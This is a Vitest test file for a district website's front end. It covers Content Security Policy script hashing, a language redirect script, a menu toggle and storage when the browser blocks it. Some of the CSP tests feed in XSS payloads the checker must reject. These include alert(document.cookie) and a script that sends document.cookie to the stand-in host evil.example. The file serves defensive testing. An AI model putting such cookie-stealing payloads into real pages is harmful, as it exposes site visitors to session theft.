/** The CSP's inline scripts, the language pre-paint redirect and site storage under a hostile or blocked browser. */
import { describe, expect, it } from 'vitest';
import { KNOWN_INLINE_SCRIPTS, inlineScriptHashes } from '../../scripts/pipeline/finish/csp.ts';
import { prePaintScript } from '../../src/features/accessibility-panel/accessibility.ts';
import { JS_CLASS_SCRIPT, MENU_TOGGLE_SCRIPT, languageRedirectScript } from '../../src/lib/inline-scripts.ts';
import { readStored, removeStored, siteStorage, STORAGE_KEYS, STORAGE_PREFIX, writeStored } from '../../src/lib/storage.ts';
import { DISTRICT_KEY } from '../../src/district/key.ts';

const page = (body: string) => `<!doctype html><html><head><script>${JS_CLASS_SCRIPT}</script></head><body>${body}</body></html>`;

describe('inlineScriptHashes', () => {
  it('hashes the site’s own inline scripts and Astro’s island loader', () => {
    const island = [...KNOWN_INLINE_SCRIPTS].find((s) => s.includes('astro-island'))!;
    expect(island).toBeTruthy();
    const hashes = inlineScriptHashes(page(`<script>${prePaintScript()}</script><script>${island}</script><script type="application/ld+json">{"@type":"Thing"}</script>`));
    expect(hashes).toHaveLength(3);
    for (const h of hashes) expect(h).toMatch(/^'sha256-[A-Za-z0-9+/]+=*'$/);
  });

  it('an editor writing about <script> tags, in a description or a text, is no script and never stops publishing', () => {
    const words = 'Maqola HTML haqida: <script> va </script> teglari';
    const escaped = words.replaceAll('<', '&lt;').replaceAll('>', '&gt;');
    const html = page(
      `<meta name="description" content="${words.replaceAll('"', '&quot;')}"><meta property="og:description" content="${words}"><p>${escaped}</p><script type="module" src="/_astro/a.js"></script>`,
    );
    expect(inlineScriptHashes(html)).toHaveLength(1);
  });

  it('a known script written inside an attribute, or an odd start tag, lets no foreign script through', () => {
    for (const trick of [
      `<meta name="description" content="<script>${JS_CLASS_SCRIPT}</script>"><script>alert(1)</script>`,
      '<script data-src="x">alert(1)</script>',
      `<script title="a>${JS_CLASS_SCRIPT}</script>">alert(1)</script>`,
      `<script>${JS_CLASS_SCRIPT}</script><script>alert(1)`,
    ]) {
      expect(() => inlineScriptHashes(page(trick)), trick).toThrow(/not one of the site's own.*alert\(1\)/s);
    }
    // Nor does a data block hide one: it is read by the parser, which leaves the data out and finds the script.
    const data = page(`<script type=application/json>{"a":1}</script><script>${prePaintScript()}</script>`);
    expect(inlineScriptHashes(data)).toHaveLength(2);
  });

  it('fails on any other inline script, saying what it is and where to look', () => {
    for (const foreign of [
      '<script>alert(document.cookie)</script>',
      '<SCRIPT type="text/javascript">fetch("//evil.example/"+document.cookie)</SCRIPT>',
      `<script>${JS_CLASS_SCRIPT};alert(1)</script>`,
    ]) {
      expect(() => inlineScriptHashes(page(`<article><p>Yangilik</p>${foreign}</article>`)), foreign).toThrow(/not one of the site's own.*sanitiser/s);
    }
  });
});

describe('the language pre-paint redirect', () => {
  /** Runs the script as a browser would on `pathname` with `stored` in local storage; returns where it went. */
  function run(stored: string | null, pathname = '/news/5') {
    let went: string | null = null;
    const location = { pathname, search: '', hash: '', replace: (url: string) => (went = url) };
    const localStorage = { getItem: () => stored };
    new Function('localStorage', 'location', languageRedirectScript())(localStorage, location);
    return went;
  }

  it('goes to the stored language’s version', () => {
    expect(run('3')).toBe('/ru/news/5');
    expect(run('2', '/')).toBe('/uz-cyrl/');
    expect(run('1')).toBeNull();
    expect(run(null)).toBeNull();
  });

  it('ignores stored values that are not a language, including Object.prototype’s names', () => {
    for (const value of ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf', '5', '']) expect(run(value), value).toBeNull();
  });
});

describe('the menu toggle before any module', () => {
  /** Runs the script against a page whose bar ends 120 px down; returns the toggle, the page's root and a click. */
  function setUp() {
    let listener: (e: { target: unknown }) => void = () => {};
    const attributes = new Map([['aria-expanded', 'false']]);
    const toggle = {
      getAttribute: (name: string) => attributes.get(name) ?? null,
      setAttribute: (name: string, value: unknown) => attributes.set(name, String(value)),
      closest: (selector: string) => (selector === '[data-nav-bar]' ? { getBoundingClientRect: () => ({ bottom: 120 }) } : toggle),
    };
    const classes = new Set<string>();
    const root = { classList: { toggle: (c: string, on: boolean) => (on ? classes.add(c) : classes.delete(c)) }, style: new Map<string, string>() };
    const document = {
      documentElement: { classList: root.classList, style: { setProperty: (k: string, v: string) => root.style.set(k, v) } },
      addEventListener: (_: string, l: typeof listener) => (listener = l),
    };
    new Function('document', MENU_TOGGLE_SCRIPT)(document);
    return { attributes, classes, root, click: (target: unknown) => listener({ target }), toggle };
  }

  it('opens the menu under the bar on a tap, and closes it on the next', () => {
    const { attributes, classes, root, click, toggle } = setUp();
    click(toggle);
    expect(attributes.get('aria-expanded')).toBe('true');
    expect(classes.has('menu-open')).toBe(true);
    expect(root.style.get('--menu-top')).toBe('120px');
    click(toggle);
    expect(attributes.get('aria-expanded')).toBe('false');
    expect(classes.has('menu-open')).toBe(false);
  });

  it('leaves every other click alone, the document itself included', () => {
    const { attributes, classes, click } = setUp();
    click({ closest: () => null });
    click({});
    expect(attributes.get('aria-expanded')).toBe('false');
    expect(classes.size).toBe(0);
  });
});

describe('site storage when the browser blocks it', () => {
  it('never throws, and reports that nothing was stored', () => {
    const descriptor = Object.getOwnPropertyDescriptor(globalThis, 'localStorage');
    Object.defineProperty(globalThis, 'localStorage', {
      configurable: true,
      get() {
        throw new DOMException('The operation is insecure.', 'SecurityError');
      },
    });
    try {
      expect(readStored(STORAGE_KEYS.a11y)).toBeNull();
      expect(writeStored(STORAGE_KEYS.a11y, '{}')).toBe(false);
      expect(() => removeStored(STORAGE_KEYS.appealDraft)).not.toThrow();
      expect(siteStorage.getItem(STORAGE_KEYS.surveyVotes)).toBeNull();
      expect(() => siteStorage.setItem(STORAGE_KEYS.surveyVotes, '{}')).not.toThrow();
    } finally {
      if (descriptor) Object.defineProperty(globalThis, 'localStorage', descriptor);
      else delete (globalThis as { localStorage?: unknown }).localStorage;
    }
  });

  it("every key lives under the district's prefix", () => {
    for (const key of Object.values(STORAGE_KEYS)) expect(key.startsWith(STORAGE_PREFIX)).toBe(true);
    // The district's short name first: two districts on one origin keep apart what a device stores.
    expect(STORAGE_PREFIX).toBe(`${DISTRICT_KEY}-hokimligi:`);
  });
});
